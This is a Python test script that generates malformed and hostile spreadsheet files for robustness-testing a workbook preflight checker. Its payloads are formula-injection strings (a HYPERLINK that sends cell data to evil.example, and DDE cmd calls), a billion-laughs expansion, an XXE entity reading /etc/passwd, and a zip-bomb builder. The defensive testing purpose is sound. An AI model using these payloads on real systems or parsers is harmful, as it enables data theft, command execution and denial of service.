"""Build the corpus of malformed and hostile inputs (deterministic).

    python tests/robustness/make_corpus.py OUT_FOLDER

Writes one file per case into OUT_FOLDER and returns/prints the expectations: the code
preflight must give (``F1xx``; all fatal but F119), or ``None`` for files that pass preflight
and are the reader's to judge. Application-like files come from the template writer
(:mod:`clusterctl.workbook.template`); the rest are built by hand, byte by byte, so no library
tidies the hostility away.
"""

from __future__ import annotations

import io
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

# Fixed timestamp for every zip member: the corpus is byte-for-byte reproducible.
DATE_TIME = (2024, 1, 1, 0, 0, 0)
INJECTIONS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign
)

CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" '
    b'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.spreadsheetml.worksheet+xml"/>'
    b"</Types>"
)
ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    b'<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)
SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)


def sheet_xml(cells: str, dimension: str | None = "A1", prolog: bytes = b"") -> bytes:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    body = f"{dim}<sheetData>{cells}</sheetData></worksheet>".encode()
    head = SHEET_HEAD
    if prolog:
        head = head.replace(b"<worksheet", prolog + b"<worksheet", 1)
    return head + body


def minimal_parts(sheet: bytes) -> dict[str, bytes]:
    return {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": ROOT_RELS,
        "xl/workbook.xml": WORKBOOK,
        "xl/_rels/workbook.xml.rels": WORKBOOK_RELS,
        "xl/worksheets/sheet1.xml": sheet,
    }


def write_zip(path: Path, members: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(zipfile.ZipInfo(name, DATE_TIME), data, zipfile.ZIP_DEFLATED)


def inline(ref: str, text: str) -> str:
    from xml.sax.saxutils import escape

    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(text)}</t></is></c>'


# ---------------------------------------------------------------- OLE2 compound files


def ole2(streams: list[str]) -> bytes:
    """A minimal OLE2 compound file whose directory names ``streams`` (each empty).

    Enough for format sniffing: the header, one FAT sector, one directory sector.
    """
    sector = 512
    header = bytearray(sector)
    header[0:8] = bytes.fromhex("D0CF11E0A1B11AE1")
    struct.pack_into("<HHHH", header, 24, 0x3E, 3, 0xFFFE, 9)  # minor, major, byte order, shift
    struct.pack_into("<H", header, 32, 6)  # mini sector shift
    struct.pack_into("<I", header, 44, 1)  # number of FAT sectors
    struct.pack_into("<i", header, 48, 1)  # first directory sector
    struct.pack_into("<I", header, 56, 4096)  # mini stream cutoff
    struct.pack_into("<i", header, 60, -2)  # no mini FAT
    struct.pack_into("<i", header, 68, -2)  # no DIFAT sectors
    difat = [0] + [-1] * 108
    struct.pack_into("<109i", header, 76, *difat)
    fat = bytearray(sector)
    entries = [-3, -2] + [-1] * 126  # sector 0: FAT, sector 1: directory (end of chain)
    struct.pack_into("<128i", fat, 0, *entries)
    directory = bytearray(sector)
    names = ["Root Entry", *streams][:4]
    for i, name in enumerate(names):
        entry = bytearray(128)
        encoded = (name + "\x00").encode("utf-16-le")
        entry[0 : len(encoded)] = encoded
        struct.pack_into("<H", entry, 64, len(encoded))
        entry[66] = 5 if i == 0 else 2  # root storage / stream
        entry[67] = 1  # black
        struct.pack_into("<iii", entry, 68, -1, -1, 1 if i == 0 and len(names) > 1 else -1)
        if i > 0:
            struct.pack_into("<i", entry, 68, -1)
            struct.pack_into("<i", entry, 72, i + 1 if i + 1 < len(names) else -1)
        struct.pack_into("<iI", entry, 116, -2, 0)  # start sector, size
        directory[i * 128 : (i + 1) * 128] = entry
    return bytes(header + fat + directory)


# ---------------------------------------------------------------- the zip bomb


def write_bomb(path: Path, unpacked_mb: int = 1024, *, lie: bool = False) -> None:
    """A workbook whose sheet deflates to ``unpacked_mb`` MB of XML whitespace from ~1 MB.

    The deflate stream is assembled from one compressed 1 MB block of spaces ended by a full
    flush (byte-aligned, no back-references across it), repeated: seconds to write, never the
    whole sheet in memory. ``lie``: the zip headers declare a tiny uncompressed size.
    """
    block = b" " * (1 << 20)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    head_c = comp.compress(SHEET_HEAD + b"<sheetData>") + comp.flush(zlib.Z_FULL_FLUSH)
    block_c = comp.compress(block) + comp.flush(zlib.Z_FULL_FLUSH)
    tail_plain = b'<row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>'
    tail_c = comp.compress(tail_plain) + comp.flush()
    crc = zlib.crc32(SHEET_HEAD + b"<sheetData>")
    for _ in range(unpacked_mb):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail_plain, crc)
    usize = len(SHEET_HEAD) + len(b"<sheetData>") + unpacked_mb * len(block) + len(tail_plain)
    csize = len(head_c) + unpacked_mb * len(block_c) + len(tail_c)
    declared = 4096 if lie else usize

    others = minimal_parts(b"")
    del others["xl/worksheets/sheet1.xml"]
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in others.items():
            zf.writestr(zipfile.ZipInfo(name, DATE_TIME), data, zipfile.ZIP_DEFLATED)
    # append the bomb member by hand: local header, data, then rewrite the central directory
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as zf:
        infos = zf.infolist()
        start_cd = min((i.header_offset for i in infos), default=0)
    raw = buf.getvalue()
    cd_offset = raw.index(b"PK\x01\x02")
    entries = raw[cd_offset : raw.index(b"PK\x05\x06")]
    name = b"xl/worksheets/sheet1.xml"
    dos_time, dos_date = 0, (2024 - 1980) << 9 | 1 << 5 | 1
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, dos_time, dos_date, crc, csize, declared, len(name), 0
    )
    offset = cd_offset
    with open(path, "wb") as out:
        out.write(raw[start_cd:cd_offset])
        out.write(local + name)
        out.write(head_c)
        for _ in range(unpacked_mb):
            out.write(block_c)
        out.write(tail_c)
        central = struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            0,
            8,
            dos_time,
            dos_date,
            crc,
            csize,
            declared,
            len(name),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        cd_start = out.tell()
        out.write(entries + central + name)
        cd_size = out.tell() - cd_start
        count = len(infos) + 1
        out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, cd_size, cd_start, 0))


# ---------------------------------------------------------------- application-like workbooks


def application_spec(year: int = 2024) -> dict:
    """A plausible, complete application (values only; edited per case)."""
    from clusterctl.workbook.identifiers import make_uscc

    roster = [
        {
            "name": f"北京示例科技有限公司{i:02d}",
            "uscc": make_uscc(f"91110108MA{i:07d}"),
            "size": "小型",
            "in_leading": "是",
            "q_specialised": 2022 if i < 12 else None,
            "revenue": 3.5,
        }
        for i in range(15)
    ]
    return {
        "basic": {
            "cluster_name": "北京市海淀区示例软件产业集群",
            "province": "北京市",
            "city": "北京市",
            "district": "海淀区",
            "division_code": "110108",
            "leading_industry": "软件和信息技术服务业",
            "niche": "工业软件",
            "area_km2": 12.5,
            "operator_name": "海淀示例园区管理委员会",
            "applicant": "海淀区经济和信息化局",
            "contact_person": "张三",
            "contact_phone": "010-12345678",
            "contact_email": "contact@example.cn",
            "application_year": year,
            "high_energy": "否",
            "high_water": "否",
        },
        "indicators": {},
        "roster": roster,
        "signatory": "张三",
    }


def _pack():
    from clusterctl.criteria.loader import resolve_pack

    return resolve_pack("beijing-2023")


def _save(wb, path: Path) -> None:
    wb.save(path)
    _normalise_zip(path)


def _normalise_zip(path: Path) -> None:
    """Rewrite a zip with fixed timestamps so the corpus is byte-for-byte reproducible."""
    with zipfile.ZipFile(path) as zf:
        members = {i.filename: zf.read(i) for i in zf.infolist()}
    write_zip(path, members)


def _filled(spec: dict | None = None):
    from clusterctl.workbook.template import fill_workbook

    return fill_workbook(_pack(), spec or application_spec())


def _text_cells(wb):
    """Every cell of the filled workbook that holds user text (not markers, keys or labels)."""
    from clusterctl.workbook.template import FIRST_DATA_ROW

    for ws in wb.worksheets:
        for row in ws.iter_rows(min_row=FIRST_DATA_ROW):
            for cell in row:
                if isinstance(cell.value, str) and cell.column > 2 and not cell.protection.locked:
                    yield cell


def case_valid(path: Path) -> None:
    _save(_filled(), path)


def case_xlsm(path: Path) -> None:
    _save(_filled(), path)


def case_missing_sheets(path: Path) -> None:
    wb = _filled()
    for ws in list(wb.worksheets)[3:]:
        wb.remove(ws)
    _save(wb, path)


def case_renamed_sheets(path: Path) -> None:
    wb = _filled()
    for i, ws in enumerate(wb.worksheets):
        ws.title = f"Sheet{i + 1}"
    wb._sheets.reverse()
    _save(wb, path)


def case_hidden_sheets(path: Path) -> None:
    wb = _filled()
    for ws in wb.worksheets[1:]:
        ws.sheet_state = "hidden"
    wb.create_sheet("说明").sheet_state = "veryHidden"
    _save(wb, path)


def case_merged_inputs(path: Path) -> None:
    wb = _filled()
    ws = wb.worksheets[1]
    ws.merge_cells(start_row=4, start_column=3, end_row=8, end_column=4)
    _save(wb, path)


def case_formulas_no_values(path: Path) -> None:
    from clusterctl.workbook.template import build_workbook

    _, layout = build_workbook(_pack())
    _sheet, row, col = layout.cells["basic.area_km2"]
    wb = _filled()
    for ws, r, c, formula in (
        (wb.worksheets[1], row, col, "=10+2.5"),
        (wb.worksheets[3], 4, 11, "=1+2.5"),
    ):
        ws.cell(r, c).value = formula
        ws.cell(r, c).data_type = "f"
    _save(wb, path)  # openpyxl writes <f> without a cached <v>


def case_formula_injection(path: Path) -> None:
    wb = _filled()
    cells = list(_text_cells(wb))
    for i, cell in enumerate(cells):
        cell.value = INJECTIONS[i % len(INJECTIONS)]
        cell.data_type = "s"  # typed text, as Excel stores '=... (not a formula)
    _save(wb, path)


def case_long_strings(path: Path) -> None:
    wb = _filled()
    for i, cell in enumerate(_text_cells(wb)):
        cell.value = ("长" * 32767) if i % 2 == 0 else ("x" * 200_000)
    _save(wb, path)


def case_control_chars(path: Path) -> None:
    """Control characters as Excel escapes them (_x0001_) and raw (not even valid XML)."""
    wb = _filled()
    for cell in _text_cells(wb):
        cell.value = "集群_x0001__x001F_\u200b\u202e名称"
    _save(wb, path)
    with zipfile.ZipFile(path) as zf:
        members = {i.filename: zf.read(i) for i in zf.infolist()}
    for name, data in members.items():
        if name.startswith("xl/worksheets/") or name == "xl/sharedStrings.xml":
            members[name] = data.replace("名称".encode(), "名\x01\x07称".encode())
    write_zip(path, members)


def case_roster_50k(path: Path) -> None:
    """The template with 50,000 roster rows (the sheet XML is streamed in by hand)."""
    from clusterctl.workbook.identifiers import make_uscc
    from clusterctl.workbook.template import FIRST_DATA_ROW

    wb = _filled()
    _save(wb, path)
    roster_title = wb.worksheets[3].title
    with zipfile.ZipFile(path) as zf:
        members = {i.filename: zf.read(i) for i in zf.infolist()}
        from clusterctl.workbook.preflight import sheet_parts

        member = next(p.member for p in sheet_parts(zf) if p.name == roster_title)
    xml = members[member].decode()
    start = xml.index(f'<row r="{FIRST_DATA_ROW}"')
    end = xml.index("</sheetData>")
    rows = []
    for i in range(50_000):
        r = FIRST_DATA_ROW + i
        name = inline(f"B{r}", f"示例企业{i:05d}有限公司")
        uscc = inline(f"C{r}", make_uscc(f"91110108MA{i:07d}"))
        rows.append(
            f'<row r="{r}">{name}{uscc}{inline(f"D{r}", "小型")}{inline(f"E{r}", "是")}'
            f'<c r="K{r}"><v>{(i % 97) / 10}</v></c></row>'
        )
    xml = xml[:start] + "".join(rows) + xml[end:]
    last = FIRST_DATA_ROW + 49_999
    import re

    xml = re.sub(r'<dimension ref="[^"]*"', f'<dimension ref="A1:K{last}"', xml, count=1)
    members[member] = xml.encode()
    write_zip(path, members)


# ---------------------------------------------------------------- the catalogue

Builder = Callable[[Path], None]


def _bytes(data: bytes) -> Builder:
    return lambda path: path.write_bytes(data)


def _parts(parts: dict[str, bytes]) -> Builder:
    return lambda path: write_zip(path, parts)


BILLION_LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]>"
)
XXE = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def _truncated(path: Path) -> None:
    write_zip(path, minimal_parts(sheet_xml(inline("A1", "x" * 5000), "A1")))
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def _duplicate_members(path: Path) -> None:
    """Two members named like the worksheet: a harmless one, and one with a far cell that a
    parser reading the other copy would meet unchecked."""
    import warnings

    parts = minimal_parts(sheet_xml(inline("A1", "x"), "A1"))
    far = sheet_xml('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', "A1")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
            for name, data in [*parts.items(), ("xl/worksheets/sheet1.xml", far)]:
                zf.writestr(zipfile.ZipInfo(name, DATE_TIME), data, zipfile.ZIP_DEFLATED)


# Cells python-calamine places far away although no reference says so (it aborts the process
# allocating the grid): a lowercase reference, and cells or rows that carry no reference at all,
# placed after the previous one.
FAR_LOWERCASE = (
    '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="xfd1048576"><v>2</v></c></row>'
)
FAR_UNREFERENCED_CELLS = (
    '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576">' + "<c><v>1</v></c>" * 3000 + "</row>"
)
FAR_UNREFERENCED_ROWS = (
    '<row r="1048576"><c><v>1</v></c></row><row>' + "<c><v>1</v></c>" * 16000 + "</row>"
)


def _ods(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr(
            zipfile.ZipInfo("mimetype", DATE_TIME), "application/vnd.oasis.opendocument.spreadsheet"
        )
        zf.writestr(zipfile.ZipInfo("content.xml", DATE_TIME), "<office:document-content/>")
        zf.writestr(zipfile.ZipInfo("META-INF/manifest.xml", DATE_TIME), "<manifest/>")


# name -> (builder, expected fatal code or None, needs the template writer)
CASES: dict[str, tuple[Builder, str | None, bool]] = {
    "empty.xlsx": (_bytes(b""), "F101", False),
    "text.xlsx": (_bytes("这不是工作簿\nplain text\n".encode()), "F102", False),
    "csv.xlsx": (_bytes("集群名称,产值\n示例,45.6\n".encode("gb18030")), "F102", False),
    "html.xls": (
        _bytes(b"<html><body><table><tr><td>1</td></tr></table></body></html>"),
        "F102",
        False,
    ),
    "random.xlsx": (_bytes(bytes(range(256)) * 4), "F103", False),
    "truncated.xlsx": (_truncated, "F104", False),
    "plain-zip.xlsx": (_parts({"readme.txt": b"hello", "data/a.csv": b"1,2"}), "F105", False),
    "encrypted.xlsx": (_bytes(ole2(["EncryptionInfo", "EncryptedPackage"])), "F106", False),
    "legacy.xls": (_bytes(ole2(["Workbook", "\x05SummaryInformation"])), "F107", False),
    "word.doc": (_bytes(ole2(["WordDocument", "1Table"])), "F110", False),
    "sheet.ods": (_ods, "F108", False),
    "binary.xlsb": (
        _parts({"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": b"\x83\x01\x00"}),
        "F109",
        False,
    ),
    "billion-laughs.xlsx": (
        _parts(minimal_parts(sheet_xml(inline("A1", "&lol9;"), "A1", BILLION_LAUGHS))),
        "F115",
        False,
    ),
    "xxe.xlsx": (
        _parts(
            minimal_parts(sheet_xml('<c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c>', "A1", XXE))
        ),
        "F115",
        False,
    ),
    "xfd1048576.xlsx": (
        _parts(
            minimal_parts(
                sheet_xml(
                    '<row r="1"><c r="A1"><v>1</v></c></row>'
                    '<row r="1048576"><c r="XFD1048576"><v>2</v></c></row>',
                    "A1:XFD1048576",
                )
            )
        ),
        "F114",
        False,
    ),
    "xfd1048576-lying-dimension.xlsx": (
        _parts(
            minimal_parts(
                sheet_xml(
                    '<row r="1"><c r="A1"><v>1</v></c></row>'
                    '<row r="1048576"><c r="XFD1048576"><v>2</v></c></row>',
                    "A1",
                )
            )
        ),
        "F114",
        False,
    ),
    "xfd1048576-lowercase.xlsx": (
        _parts(minimal_parts(sheet_xml(FAR_LOWERCASE, "A1"))),
        "F114",
        False,
    ),
    "far-cells-without-references.xlsx": (
        _parts(minimal_parts(sheet_xml(FAR_UNREFERENCED_CELLS, "A1"))),
        "F114",
        False,
    ),
    "far-rows-without-references.xlsx": (
        _parts(minimal_parts(sheet_xml(inline("A1", "x") + FAR_UNREFERENCED_ROWS, "A1"))),
        "F114",
        False,
    ),
    "duplicate-members.xlsx": (_duplicate_members, "F104", False),
    "zip-bomb.xlsx": (write_bomb, "F112", False),
    # declared sizes lie: Python's zipfile stops at the declared size and the CRC fails
    "zip-bomb-lying.xlsx": (lambda p: write_bomb(p, 256, lie=True), "F104", False),
    "minimal-handmade.xlsx": (_parts(minimal_parts(sheet_xml(inline("A1", "hello")))), None, False),
    # application-like workbooks: pass preflight; the reader reports what is wrong with them
    "valid.xlsx": (case_valid, None, True),
    "macro.xlsm": (case_xlsm, None, True),
    "missing-sheets.xlsx": (case_missing_sheets, None, True),
    "renamed-sheets.xlsx": (case_renamed_sheets, None, True),
    "hidden-sheets.xlsx": (case_hidden_sheets, None, True),
    "merged-inputs.xlsx": (case_merged_inputs, None, True),
    "formulas-no-values.xlsx": (case_formulas_no_values, "F119", True),  # not fatal
    "formula-injection.xlsx": (case_formula_injection, None, True),
    "long-strings.xlsx": (case_long_strings, None, True),
    "control-chars.xlsx": (case_control_chars, None, True),
    "roster-50k.xlsx": (case_roster_50k, None, True),
}


def template_available() -> bool:
    try:
        import clusterctl.workbook.template  # noqa: F401
    except ImportError:
        return False
    return True


def build(folder: str | Path) -> dict[str, str | None]:
    """Write every case into ``folder``; return ``{file name: expected fatal code or None}``."""
    out = Path(folder)
    out.mkdir(parents=True, exist_ok=True)
    with_template = template_available()
    expected: dict[str, str | None] = {}
    for name, (builder, code, needs_template) in CASES.items():
        if needs_template and not with_template:
            continue
        builder(out / name)
        expected[name] = code
    return expected


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: make_corpus.py OUT_FOLDER")
    for name, code in build(sys.argv[1]).items():
        print(f"{name}\t{code or '-'}")
